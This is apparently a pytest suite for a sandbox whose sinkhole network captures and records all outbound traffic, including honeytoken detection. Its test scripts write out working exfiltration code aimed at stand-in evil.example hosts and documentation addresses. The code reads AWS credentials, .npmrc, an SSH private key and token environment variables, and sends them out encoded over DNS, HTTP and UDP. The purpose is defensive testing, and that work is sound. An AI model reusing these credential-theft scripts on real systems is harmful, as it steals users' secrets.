"""The sinkhole network: everything the sandbox sends is answered locally and recorded; nothing
leaves. Traffic goes only to documentation / sinkhole addresses, which the sandbox's own
namespaces capture (and which lead nowhere even if they did not)."""

from __future__ import annotations

import base64
import json
import socket
import subprocess
import textwrap
import urllib.parse

import pytest

from tracehound.sandbox import Sandbox, SandboxConfig

pytestmark = pytest.mark.root

CLIENTS = textwrap.dedent(r"""
    set -u
    curl -s -m 10 -X POST -H 'X-Probe: curl-1' --data-binary 'field=value&n=1' 'http://collector.evil.example/in?src=curl' -o /dev/null -w 'curl=%{http_code}\n'
    wget -q -T 10 -O /dev/null --header='X-Probe: wget-1' http://second.evil.example/payload.sh; echo "wget=$?"
    curl -s -m 10 -o /dev/null https://tls.evil.example/ ; echo "curl-tls=$?"
    python3 - <<'PY'
    import socket, struct
    s = socket.create_connection(("203.0.113.7", 4444), timeout=10); s.sendall(b"RAW-V4-HELLO"); s.close()
    s = socket.create_connection(("2001:db8::7", 4445), timeout=10); s.sendall(b"RAW-V6-HELLO"); s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"UDP-V4-DATAGRAM", ("198.51.100.9", 9999))
    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u6.sendto(b"UDP-V6-DATAGRAM", ("2001:db8::9", 9998))
    # DNS over TCP to a resolver of the code's own choosing
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in "tcp-query.evil.example".split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    t = socket.create_connection(("192.0.2.53", 53), timeout=10)
    t.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", t.recv(2))[0]
    reply = t.recv(n)
    print("dns-tcp-answers", struct.unpack("!H", reply[6:8])[0])
    PY
""")


@pytest.fixture(scope="module")
def clients_run():
    with Sandbox(SandboxConfig(timeout=120)) as sb:
        res = sb.run(["sh", "-c", CLIENTS])
        yield sb, res, sb.network_log()


def _tcp(log, port, ip=None):
    return [t for t in log.tcp if t.dst_port == port and (ip is None or t.dst_ip == ip)]


def test_clients_got_answers(clients_run):
    _, res, _ = clients_run
    out = res.stdout.decode()
    assert res.exit_code == 0, res.stderr
    assert "curl=200" in out and "wget=0" in out  # the sinkhole's empty 200
    assert "curl-tls=35" in out  # handshake fails: we record the hello and hang up
    assert "dns-tcp-answers 1" in out


def test_dns_queries_are_recorded_with_distinct_addresses(clients_run):
    sb, _, log = clients_run
    names = {q.name for q in log.dns}
    assert {"collector.evil.example", "second.evil.example", "tls.evil.example", "tcp-query.evil.example"} <= names
    a = {q.name: q.answers[0] for q in log.dns if q.qtype == "A" and q.answers}
    assert len({a["collector.evil.example"], a["second.evil.example"], a["tls.evil.example"]}) == 3
    for name, ip in a.items():
        assert ip.startswith(("198.18.", "198.19.")) and sb.resolve_ip(ip) == name
    aaaa = [q for q in log.dns if q.qtype == "AAAA" and q.name == "collector.evil.example"]
    assert aaaa and aaaa[0].answers[0].startswith("100::")
    assert any(q.transport == "tcp" and q.name == "tcp-query.evil.example" and q.server == "192.0.2.53:53"
               for q in log.dns)
    assert all(q.client.startswith(sb.describe()["addresses"]["ipv4"] + ":") for q in log.dns if "." in q.client)


def test_http_requests_are_recorded_with_the_name(clients_run):
    _, _, log = clients_run
    (post,) = [t for t in _tcp(log, 80) if t.dst_name == "collector.evil.example"]
    assert post.protocol == "http"
    assert (post.http.method, post.http.target) == ("POST", "/in?src=curl")
    assert post.http.header("X-Probe") == "curl-1" and post.http.host == "collector.evil.example"
    assert post.http.body == b"field=value&n=1"
    (get,) = [t for t in _tcp(log, 80) if t.dst_name == "second.evil.example"]
    assert (get.http.method, get.http.target, get.http.header("x-probe")) == ("GET", "/payload.sh", "wget-1")
    assert "Wget" in get.http.header("user-agent")


def test_raw_connections_keep_their_original_destination(clients_run):
    _, _, log = clients_run
    (v4,) = _tcp(log, 4444, "203.0.113.7")
    (v6,) = _tcp(log, 4445, "2001:db8::7")
    assert (v4.family, v4.data, v4.protocol, v4.dst_name) == (4, b"RAW-V4-HELLO", "unknown", None)
    assert (v6.family, v6.data) == (6, b"RAW-V6-HELLO")
    assert v6.destination == "[2001:db8::7]:4445"


def test_udp_datagrams_are_recorded(clients_run):
    _, _, log = clients_run
    got = {(u.dst_ip, u.dst_port, u.family): u.data for u in log.udp}
    assert got[("198.51.100.9", 9999, 4)] == b"UDP-V4-DATAGRAM"
    assert got[("2001:db8::9", 9998, 6)] == b"UDP-V6-DATAGRAM"


def test_tls_client_hello_sni(clients_run):
    _, _, log = clients_run
    (tls,) = _tcp(log, 443)
    assert tls.protocol == "tls" and tls.tls.sni == "tls.evil.example" == tls.dst_name
    assert "http/1.1" in tls.tls.alpn


def test_nothing_else_was_blocked_or_dropped(clients_run):
    _, _, log = clients_run
    assert log.dropped_records == 0
    d = log.to_dict()
    json.dumps(d)  # serialisable as is
    assert d["tcp"][0]["data"]["base64"]


EXFIL = textwrap.dedent(r"""
    import base64, os, socket, urllib.parse, urllib.request
    home = os.path.expanduser("~")
    npm_env = os.environ["NPM_TOKEN"]
    # 1. DNS only: hex of the token split over labels (a name resolution is all it takes)
    h = npm_env.encode().hex()
    try:
        socket.getaddrinfo(f"{h[:40]}.{h[40:]}.x.evil.example", 80)
    except OSError:
        pass
    def post(url, body, ctype="application/octet-stream"):
        req = urllib.request.Request(url, data=body, headers={"Content-Type": ctype})
        urllib.request.urlopen(req, timeout=10).read()
    # 2. base64 of the whole AWS credentials file
    post("http://b64.evil.example/u", base64.b64encode(open(home + "/.aws/credentials", "rb").read()))
    # 3. hex of the .npmrc line, upper case
    post("http://hex.evil.example/u", open(home + "/.npmrc", "rb").read().hex().upper().encode())
    # 4. URL-encoded form with the env AWS secret (has '+' and '/' more often than not)
    post("http://form.evil.example/u", urllib.parse.urlencode({"s": os.environ["AWS_SECRET_ACCESS_KEY"],
                                                                "k": os.environ["AWS_ACCESS_KEY_ID"]}).encode(),
         "application/x-www-form-urlencoded")
    # 5. the SSH key, base64url without padding, in a UDP datagram
    key = open(home + "/.ssh/id_rsa", "rb").read()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(base64.urlsafe_b64encode(key).rstrip(b"="), ("198.51.100.77", 5353))
    print("exfil done")
""")


def test_honeytoken_exfiltration_is_proven():
    with Sandbox(SandboxConfig(timeout=120)) as sb:
        res = sb.run(["python3", "-c", EXFIL])
        log = sb.network_log()
        reg = sb.honeytokens
        home = sb.home
    assert res.exit_code == 0, res.stderr
    hits = {(h.channel, h.kind, h.planted, h.encoding, h.destination) for h in log.honeytoken_hits}

    npm_env = reg.by_location("env:NPM_TOKEN")[0]
    dns_hits = [h for h in log.honeytoken_hits if h.channel == "dns"]
    assert {(h.token_id, h.encoding) for h in dns_hits} == {(npm_env.id, "hex")}
    assert dns_hits[0].destination.endswith(".x.evil.example")
    assert npm_env.value.encode().hex()[:40] in dns_hits[0].excerpt

    aws_file = f"{home}/.aws/credentials"
    assert ("tcp", "aws_access_key_id", aws_file, "base64", "b64.evil.example:80") in hits
    assert ("tcp", "aws_secret_access_key", aws_file, "base64", "b64.evil.example:80") in hits
    assert ("tcp", "npm_token", f"{home}/.npmrc", "hex", "hex.evil.example:80") in hits

    secret = reg.by_location("env:AWS_SECRET_ACCESS_KEY")[0].value
    enc = "urlencoded" if urllib.parse.quote_plus(secret) != secret else "plain"
    assert ("tcp", "aws_secret_access_key", "env:AWS_SECRET_ACCESS_KEY", enc, "form.evil.example:80") in hits
    assert ("tcp", "aws_access_key_id", "env:AWS_ACCESS_KEY_ID", "plain", "form.evil.example:80") in hits

    ssh = {h for h in hits if h[1] == "ssh_private_key"}
    assert ("udp", "ssh_private_key", f"{home}/.ssh/id_rsa", "base64url", "198.51.100.77:5353") in ssh \
        or ("udp", "ssh_private_key", f"{home}/.ssh/id_rsa", "base64", "198.51.100.77:5353") in ssh
    # nothing is reported that was not sent
    assert not {h for h in hits if h[1] in ("pypi_token", "kube_token", "rubygems_api_key")}


def test_clean_traffic_has_no_hits():
    with Sandbox(SandboxConfig(timeout=60)) as sb:
        body = base64.b64encode(b"just some data " * 50).decode()
        res = sb.run(["curl", "-s", "-m", "10", "-d", body, "http://quiet.example/"])
        log = sb.network_log()
    assert res.exit_code == 0
    assert len(log.tcp) == 1 and log.honeytoken_hits == []


def test_host_loopback_and_addresses_are_unreachable(loopback_http):
    host_ips = []
    out = subprocess.run(["ip", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True).stdout
    for line in out.splitlines():
        parts = line.split()
        if parts[2] == "inet":
            host_ips.append(parts[3].split("/")[0])
    script = f"curl -s -m 5 http://127.0.0.1:{loopback_http.port}/ ; echo loop=$?\n"
    script += f"curl -s -m 5 'http://[::1]:{loopback_http.port}/' ; echo loop6=$?\n"
    for ip in host_ips[:2]:
        script += f"curl -s -m 5 -o /dev/null -w 'code=%{{http_code}}' http://{ip}:{loopback_http.port}/ ; echo ' host={ip}'\n"
    with Sandbox(SandboxConfig(timeout=60)) as sb:
        res = sb.run(["sh", "-c", script])
        log = sb.network_log()
    out = res.stdout.decode()
    assert "loop=7" in out and "loop6=7" in out  # the sandbox's own loopback: connection refused
    assert loopback_http.requests == []  # the host's server never saw anything
    for ip in host_ips[:2]:
        # the host's own addresses lead into the sinkhole, not to the host
        assert any(t.dst_ip == ip and t.dst_port == loopback_http.port for t in log.tcp), ip


def test_no_route_out_of_the_namespaces():
    with Sandbox(SandboxConfig(timeout=60)) as sb:
        netns = sb.netns_path
        links = subprocess.run(["ip", "-n", netns.rsplit("/", 1)[1], "-o", "link"], capture_output=True,
                               text=True).stdout
        gw = netns.rsplit("/", 1)[1] + "-gw"
        gw_links = subprocess.run(["ip", "-n", gw, "-o", "link"], capture_output=True, text=True).stdout
        gw_fwd = subprocess.run(["ip", "netns", "exec", gw, "cat", "/proc/sys/net/ipv4/ip_forward"],
                                capture_output=True, text=True).stdout.strip()
    names = sorted(line.split(":")[1].strip().split("@")[0] for line in links.splitlines())
    gw_names = sorted(line.split(":")[1].strip().split("@")[0] for line in gw_links.splitlines())
    assert names == ["eth0", "lo"] and gw_names == ["gw0", "lo"]
    assert gw_fwd == "0"


def test_none_mode_is_loopback_only():
    with Sandbox(SandboxConfig(timeout=60, network="none")) as sb:
        res = sb.run(["sh", "-c", "curl -s -m 5 http://203.0.113.1/ ; echo rc=$?; "
                                  "getent hosts some.example || echo nodns; ip -o link show eth0"])
        log = sb.network_log()
    out = res.stdout.decode()
    assert "rc=7" in out and "nodns" in out and "state DOWN" in out
    assert log.tcp == [] and log.dns == [] and log.udp == []


def test_modes_switch_per_run_and_state_persists(tmp_path):
    (tmp_path / "a.txt").write_text("x")
    with Sandbox(SandboxConfig(timeout=60, project_dir=tmp_path)) as sb:
        r1 = sb.run(["sh", "-c", "echo one > ~/state; echo made > built.txt; curl -s -m 5 http://one.example/"],
                    network="sinkhole")
        r2 = sb.run(["sh", "-c", "cat ~/state built.txt; curl -s -m 3 http://two.example/; echo rc=$?"],
                    network="none")
        log = sb.network_log()
    assert r1.ok and r2.exit_code == 0
    assert r2.stdout.decode().split() == ["one", "made", "rc=6"]
    assert [q.name for q in log.dns if q.qtype == "A"] == ["one.example"]
    assert (tmp_path / "built.txt").read_text() == "made\n"
    assert (tmp_path / "built.txt").stat().st_uid == (tmp_path / "a.txt").stat().st_uid  # idmapped back


def test_ip_to_name_for_capture():
    with Sandbox(SandboxConfig(timeout=60)) as sb:
        sb.run(["getent", "ahostsv4", "c2.evil.example"])
        names = sb.dns_names()
    (ip,) = [ip for ip, n in names.items() if n == "c2.evil.example" and "." in ip]
    socket.inet_aton(ip)


ICMP_FROM_ROOT = (
    "import socket, struct\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
    "hdr = struct.pack('!BBHHH', 8, 0, 0, 1, 1)\n"
    "csum = ~sum(struct.unpack('!4H', hdr)) & 0xffff\n"
    "for _ in range(3):\n"
    "    s.sendto(struct.pack('!BBHHH', 8, 0, csum, 1, 1), ('203.0.113.1', 0))\n"
)


def test_other_protocols_are_dropped_and_counted():
    """Even a process with CAP_NET_RAW in the sandbox's namespace (here: root on the host, entering
    it) cannot get a packet past the gateway: it is counted and dropped there."""
    with Sandbox(SandboxConfig(timeout=30)) as sb:
        before = sb.network_log().blocked_packets
        subprocess.run(["nsenter", f"--net={sb.netns_path}", "python3", "-c", ICMP_FROM_ROOT], check=True)
        import time

        time.sleep(0.3)
        after = sb.network_log().blocked_packets
        log = sb.network_log()
    assert before == 0 and after == 3
    assert log.tcp == [] and log.udp == []
